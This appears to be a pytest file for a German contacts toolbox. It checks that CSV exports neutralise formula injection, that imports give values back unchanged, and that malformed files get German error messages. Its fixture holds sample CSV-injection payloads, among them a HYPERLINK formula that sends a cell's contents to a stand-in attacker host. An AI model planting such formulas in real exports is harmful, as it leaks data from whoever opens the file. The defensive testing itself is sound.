"""CSV files the toolbox writes cannot run as spreadsheet formulas (OWASP's rule against CSV
injection), and importing them gives every value back as it was (issue 14.5). Files with any
line ending and broken files are read or refused with a German message, never a 500
(issue 14.11)."""

from __future__ import annotations

import csv
import io

import pytest
from helpers import CONTACTS_CSV as CSV
from helpers import CONTACTS_URL as BASE
from helpers import ENTRY, contacts, logged_in, upload
from helpers import add_contact as add

from toolbox.contacts.service import neutralise_cell, restore_cell
from toolbox.ops.cli import cli

HOSTILE = {
    "organisation": '=HYPERLINK("http://angreifer.example/?"&A2,"Klick")',
    "funktion": "+SUM(1;2)",
    "telefon": "-2+3",
    "anschrift": "@SUMME(A1)\nStraße 1",
    "zustaendigkeit": "'=schon mit Apostroph",
}


@pytest.fixture
def facilitator(app):
    return logged_in(app, "moderation@example.org")


def cells(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"))


@pytest.mark.parametrize(
    "value",
    ["=1+1", "+49 30 1234", "-x", "@x", "\tx", "\rx", "'=x", "''+x", "'x", "x=1", "", "'"],
)
def test_cells_are_neutralised_and_restored(value):
    written = neutralise_cell(value)
    assert written[:1] not in ("=", "+", "-", "@", "\t", "\r")
    assert restore_cell(written) == value


def test_dashboard_export_cannot_run_formulas_and_round_trips(app, facilitator):
    assert add(facilitator, **HOSTILE).status_code == 303
    exported = facilitator.get(f"{BASE}/export.csv").get_data()
    header, row = cells(exported)
    for cell in row:
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), row
    assert row[0] == "'" + HOSTILE["organisation"]
    assert row[4] == "'-2+3"
    assert row[6] == "''=schon mit Apostroph"

    before = contacts(app)
    assert upload(facilitator, exported, replace=True).status_code == 303
    after = contacts(app)
    assert [{k: v for k, v in c.items() if k != "id"} for c in after] == [
        {k: v for k, v in c.items() if k != "id"} for c in before
    ]
    assert after[0]["organisation"] == HOSTILE["organisation"]


def test_cli_export_cannot_run_formulas_and_round_trips(app, facilitator, runner, tmp_path):
    add(facilitator, **HOSTILE)
    out = tmp_path / "export.csv"
    assert runner.invoke(cli, ["contacts", "export", str(out)]).exit_code == 0
    row = cells(out.read_bytes())[1]
    assert row[0].startswith("'=") and row[2].startswith("'+") and row[5].startswith("'@")
    result = runner.invoke(cli, ["contacts", "import", str(out), "--replace"])
    assert result.exit_code == 0, result.output
    (entry,) = contacts(app)
    assert {k: entry[k] for k in HOSTILE} == HOSTILE


@pytest.mark.parametrize("address", ["=cmd@example.org", "+x@example.org", "-x@example.org"])
def test_formula_addresses_are_not_email_addresses(app, facilitator, address):
    response = add(facilitator, email=address)
    assert response.status_code == 422
    assert "darf nicht mit =, +, - oder @ beginnen" in response.get_data(as_text=True)
    assert contacts(app) == []
    api = app.test_client().post(
        "/api/v1/submissions",
        json={
            "instrument": "ansprechpersonen",
            "data": {"eintraege": [ENTRY | {"email": address}], "einwilligung": True},
        },
    )
    assert api.status_code == 400
    assert any("darf nicht mit" in m for ms in api.get_json()["errors"].values() for m in ms)


# --- any line ending, broken files (issue 14.11) ------------------------------------------------


def test_import_reads_cr_only_line_endings_and_bare_cr_in_fields(app, facilitator):
    classic_mac = CSV.replace(
        '"Ganghoferstraße 5\n80339 München"', '"Ganghoferstraße 5\r80339 München"'
    )
    response = upload(facilitator, classic_mac.replace("\n", "\r").encode())
    assert response.status_code == 303, response.get_data(as_text=True)
    rows = contacts(app)
    assert len(rows) == 3
    westend = next(c for c in rows if "Westend" in c["organisation"])
    assert westend["anschrift"] == "Ganghoferstraße 5\n80339 München"
    assert westend["zustaendigkeit"] == "München West"


def test_bare_cr_in_an_unquoted_field_is_a_line_end(app, facilitator):
    text = "Organisation;Art\r\nEins;sonstige\rZwei;sonstige\r\n"
    assert upload(facilitator, text.encode()).status_code == 303
    assert sorted(c["organisation"] for c in contacts(app)) == ["Eins", "Zwei"]


@pytest.mark.parametrize(
    "text",
    [
        "Organisation;Art\nEins;sonstige\n" + "x" * 140_000 + ";sonstige\n",
        'Organisation;Art\nEins;sonstige\n"' + "y\n" * 70_000 + '";sonstige\n',
    ],
)
def test_a_field_over_the_csv_limit_is_a_german_message(app, facilitator, runner, tmp_path, text):
    response = upload(facilitator, text.encode())
    assert response.status_code == 422
    assert "Zeile 3: Die Zeile lässt sich nicht lesen" in response.get_data(as_text=True)
    path = tmp_path / "gross.csv"
    path.write_text(text, encoding="utf-8")
    result = runner.invoke(cli, ["contacts", "import", str(path)])
    assert result.exit_code == 1 and "Die Zeile lässt sich nicht lesen" in result.output
    assert contacts(app) == []
